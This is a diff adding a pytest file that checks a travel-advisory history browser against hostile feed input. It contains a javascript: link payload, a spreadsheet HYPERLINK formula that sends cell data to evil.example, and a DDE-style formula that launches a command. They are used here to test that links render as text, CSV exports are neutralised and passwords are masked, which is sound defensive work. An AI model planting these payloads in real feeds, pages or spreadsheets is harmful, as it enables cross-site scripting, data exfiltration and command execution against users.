@@ -1,0 +1,88 @@
+"""Hostile input to the history browser, its exports and the CLI (part of issue #17), built from the
+real captures: a feed item whose link is ``javascript:``, a destination name that is a spreadsheet
+formula, a non-ASCII bearer token, a database URL with a password."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from pathlib import Path
+
+from fastapi import Depends
+from fastapi.testclient import TestClient
+from sqlmodel import select
+
+from advisory_watch.pipeline import replay_files, session_for
+from advisory_watch.settings import Settings
+from history.app import create_app, spreadsheet_safe, token_guard
+from models.tables import Snapshot
+from tests.conftest import FEED_0107, FEED_1008, run_cli
+
+SCRIPT_LINK = "javascript:alert(document.domain)//https://travel.state.gov/peru.html"
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Sao Tome")'
+
+
+def _hostile(path: Path, out: Path) -> Path:
+    """The capture with Peru's link made a script and São Tomé's name made a formula."""
+    text = path.read_text(encoding="utf-8")
+    items = re.findall(r"<item>.*?</item>", text, flags=re.S)
+    peru = next(i for i in items if '<category domain="Country-Tag">PE</category>' in i)
+    text = text.replace(peru, re.sub(r"<link>[^<]*</link>", f"<link>{SCRIPT_LINK}</link>", peru))
+    sao_tome = next(i for i in items if '<category domain="Country-Tag">TP</category>' in i)
+    hostile_title = re.sub(r"<title>[^<-]*", f"<title>{FORMULA.replace('&', '&amp;')} ", sao_tome)
+    text = text.replace(sao_tome, hostile_title)
+    out.write_text(text, encoding="utf-8")
+    return out
+
+
+def _browser(tmp_path: Path) -> tuple[Settings, TestClient]:
+    settings = Settings(home=tmp_path, database_url=f"sqlite:///{tmp_path / 'hostile.db'}")
+    files = [_hostile(FEED_0107, tmp_path / "a.xml"), _hostile(FEED_1008, tmp_path / "b.xml")]
+    list(replay_files("state-dept-feed", files, settings=settings))
+    return settings, TestClient(create_app(settings))
+
+
+def test_a_javascript_link_is_shown_as_text_never_as_a_link(tmp_path):
+    settings, client = _browser(tmp_path)
+    with session_for(settings) as session:
+        peru = session.exec(select(Snapshot).where(Snapshot.key == "PE")).first()
+    page = client.get(f"/snapshot/{peru.id}").text
+    assert 'href="javascript:' not in page.lower()
+    assert 'id="unsafe-url">javascript:alert(document.domain)' in page
+    with session_for(settings) as session:
+        france = session.exec(select(Snapshot).where(Snapshot.key == "FR")).first()
+    assert 'href="https://travel.state.gov' in client.get(f"/snapshot/{france.id}").text
+
+
+def test_formula_cells_are_neutralised_in_the_csv_exports(tmp_path):
+    _, client = _browser(tmp_path)
+    rows = list(csv.DictReader(io.StringIO(client.get("/export/changes.csv").text)))
+    sao_tome = [r for r in rows if r["country"] == "ST"]
+    assert sao_tome and all(r["summary"].startswith("'=HYPERLINK(") for r in sao_tome)
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+    assert spreadsheet_safe("@SUM(1+1)*cmd|' /C calc'!A0") == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert (
+        spreadsheet_safe("-1") == "'-1" and spreadsheet_safe(-1) == -1 and spreadsheet_safe("Peru") == "Peru"
+    )
+
+
+def test_a_non_ascii_bearer_token_is_refused_not_a_500(tmp_path):
+    settings, _ = _browser(tmp_path)
+    guarded = TestClient(create_app(settings, dependencies=[Depends(token_guard("s3cret"))]))
+    for token in ("s3cr\u00e9t", "\u043f\u0430\u0440\u043e\u043b\u044c"):
+        header = "Bearer " + token
+        response = guarded.get("/api/changes", headers={"Authorization": header.encode("utf-8")})
+        assert response.status_code == 401
+    assert guarded.get("/api/changes", headers={"Authorization": "Bearer s3cret"}).status_code == 200
+
+
+def test_db_upgrade_never_prints_the_password(tmp_path, monkeypatch, postgres_url):
+    secret_url = postgres_url.replace("://", "://postgres:hunter2-secret@", 1)
+    monkeypatch.setenv("ADVISORY_WATCH_DATABASE_URL", secret_url)
+    done = run_cli("db", "upgrade")
+    assert done.returncode == 0, done.stderr
+    assert "hunter2-secret" not in done.stdout + done.stderr
+    assert "***" in done.stderr
